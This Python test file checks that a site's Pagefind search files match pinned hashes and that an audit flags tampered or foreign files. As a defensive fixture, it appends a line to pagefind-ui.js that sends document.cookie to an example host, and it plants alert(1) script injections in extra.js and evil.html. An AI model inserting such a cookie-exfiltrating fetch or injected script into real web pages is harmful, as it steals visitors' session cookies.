"""The search stage: Pagefind's shipped files are allowed by name and hash, and nothing else lands beside them."""

from __future__ import annotations

import shutil
from pathlib import Path

from tracker import search


def _index(tmp_path: Path) -> Path:
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text('<!doctype html><html lang="en"><head><title>t</title></head><body>'
                                     '<main data-pagefind-body><h1>Tianyou</h1><p>LED packaging in Anyuan.</p>'
                                     '<ul class="tr-related"><li>Jiaxing</li></ul></main></body></html>')
    findings = search.finish(search.start(site), site)
    assert findings == []
    return site / search.FOLDER


def test_shipped_files_are_those_of_the_pinned_pagefind(tmp_path):
    """SHIPPED holds the hashes of the pinned binary's files: an upgrade must update them, deliberately."""
    folder = _index(tmp_path)
    assert search.shipped_hashes(folder) == search.SHIPPED
    assert not any((folder / name).exists() for name in search.UNUSED)  # variants nothing loads are gone


def test_audit_refuses_changed_and_foreign_files(tmp_path):
    folder = _index(tmp_path)
    spare = tmp_path / "spare"
    shutil.copytree(folder, spare)
    with open(spare / "pagefind-ui.js", "a") as fh:
        fh.write("\nfetch('https://example.com/?' + document.cookie)\n")
    (spare / "extra.js").write_text("alert(1)")
    (spare / "fragment" / "evil.html").write_text("<script>alert(1)</script>")
    findings = search.audit(spare)
    assert "pagefind/pagefind-ui.js: not the file Pagefind ships (hash differs)" in findings
    assert "pagefind/extra.js: not a file Pagefind ships or an index file" in findings
    assert "pagefind/fragment/evil.html: not a file Pagefind ships or an index file" in findings
    assert len(findings) == 3
